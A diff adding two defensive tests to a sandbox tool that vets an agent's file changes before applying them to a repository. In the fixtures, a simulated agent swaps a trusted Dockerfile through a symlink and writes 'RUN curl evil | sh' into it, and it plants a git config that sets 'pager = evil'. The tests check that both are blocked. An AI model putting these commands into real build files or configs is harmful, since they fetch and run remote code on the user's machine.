@@ -94,6 +94,40 @@ def test_environment_definition_changes_are_applied_only_when_forced_by_name(ws:
     assert not (ws.repo / ".Cubicle").exists()
 
 
+def test_a_force_naming_a_directory_accepts_no_definition_file_under_it(ws: Workspace) -> None:
+    """The viewer's overwrite button forces the conflicts' paths: a directory's conflict must not carry along a
+    trusted file below it (here the Dockerfile the definition builds, replaced through a symlinked directory)."""
+    (ws.repo / "docker").mkdir()
+    (ws.repo / "docker/dev.Dockerfile").write_text("FROM debian\n")
+    chown_tree(ws.repo, OWNER)
+    ws.layer.info.trusted = ("docker/dev.Dockerfile",)
+    ws.agent("rm -r docker && mkdir evil && echo 'RUN curl evil | sh' > evil/dev.Dockerfile && ln -s evil docker")
+    ws.stop()
+    conflicts = apply(ws.layer).conflicts
+    assert [c.path for c in conflicts] == ["docker"], conflicts
+    again = apply(ws.layer, force=["docker"]).conflicts
+    assert [c.path for c in again] == ["docker"] and "dev.Dockerfile" in again[0].reason
+    assert (ws.repo / "docker/dev.Dockerfile").read_text() == "FROM debian\n"
+    assert "docker" in apply(ws.layer, force=["docker", "docker/dev.Dockerfile"]).applied  # named: the user's call
+    assert os.readlink(ws.repo / "docker") == "evil"
+
+
+def test_a_named_definition_file_takes_its_new_directory_along_but_never_a_repository(ws: Workspace) -> None:
+    ws.agent(
+        "mkdir -p .cubicle/objects .cubicle/refs && echo 'setup = \"make\"' > .cubicle/environment.toml"
+        " && echo 'ref: refs/heads/main' > .cubicle/HEAD && printf '[core]\\n\\tpager = evil\\n' > .cubicle/config"
+    )
+    ws.stop()
+    changes = {c.path: c for c in scan(ws.layer)}
+    for name in ("HEAD", "config", "objects", "refs"):
+        assert changes[f".cubicle/{name}"].disposition == Disposition.UNSAFE, changes[f".cubicle/{name}"]
+    assert changes[".cubicle/environment.toml"].disposition == Disposition.TRUSTED
+    everything = [*(f".cubicle/{n}" for n in ("HEAD", "config", "objects", "refs", "environment.toml"))]
+    result = apply(ws.layer, force=everything)
+    assert result.applied == [".cubicle", ".cubicle/environment.toml"]
+    assert sorted(os.listdir(ws.repo / ".cubicle")) == ["environment.toml"]
+
+
 def test_a_written_layer_keeps_the_setup_it_was_written_over(ws: Workspace) -> None:
     tree, _ = run_setup(ws, "echo a > made.txt")
     layers.set_setup(ws.layer, tree)
